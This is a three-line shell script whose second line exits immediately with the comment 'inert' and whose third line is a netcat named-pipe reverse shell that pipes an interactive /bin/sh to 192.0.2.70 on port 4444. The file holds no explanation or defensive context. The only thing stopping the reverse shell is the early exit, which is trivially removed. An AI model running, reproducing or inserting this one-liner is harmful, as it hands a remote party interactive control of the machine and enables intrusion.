#!/bin/sh
exit 0 # inert
rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.70 4444 >/tmp/f
